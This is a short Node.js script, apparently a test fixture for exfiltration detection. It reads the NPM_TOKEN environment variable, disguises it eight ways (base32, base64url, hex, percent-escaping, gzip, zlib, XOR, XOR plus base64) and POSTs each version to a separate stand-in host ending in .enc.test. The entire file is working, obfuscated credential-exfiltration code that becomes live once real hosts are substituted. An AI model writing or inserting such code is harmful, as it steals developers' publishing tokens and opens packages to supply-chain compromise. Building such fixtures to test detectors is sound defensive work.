// The npm token under one encoding per destination: base32, base64url, hex,
// every byte percent-escaped, gzip, zlib, repeating-key XOR, and XOR then
// base64.
const http = require('http'), zlib = require('zlib');
const t = Buffer.from(process.env.NPM_TOKEN);
const b32 = b => { const a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'; let bits = 0, v = 0, o = '';
	for (const c of b) { v = (v << 8 | c) & 0xffff; bits += 8; while (bits >= 5) { o += a[(v >>> (bits - 5)) & 31]; bits -= 5; } }
	if (bits) o += a[(v << (5 - bits)) & 31]; return o; };
const xor = (b, k) => Buffer.from(b.map((c, i) => c ^ k.charCodeAt(i % k.length)));
const bodies = {
	'b32.enc.test': b32(Buffer.concat([Buffer.from('v1:'), t])),
	'b64url.enc.test': Buffer.concat([Buffer.from('>>'), t]).toString('base64url'),
	'hex.enc.test': t.toString('hex').toUpperCase(),
	'url.enc.test': 'd=' + [...t].map(c => '%' + c.toString(16).padStart(2, '0')).join(''),
	'gzip.enc.test': zlib.gzipSync(t),
	'zlib.enc.test': Buffer.concat([Buffer.from('blob:'), zlib.deflateSync(t)]),
	'xor.enc.test': xor(Buffer.concat([Buffer.from('{"k":"'), t, Buffer.from('"}')]), 'k3y!'),
	'xor64.enc.test': 'p=' + xor(t, 'Sx').toString('base64'),
};
(async () => {
	for (const [host, body] of Object.entries(bodies))
		await new Promise(done => {
			const r = http.request({ host, port: 80, method: 'POST', path: '/c',
				headers: { 'content-type': 'application/octet-stream' } }, res => { res.resume(); res.on('end', done); });
			r.on('error', done);
			r.end(body);
		});
})();
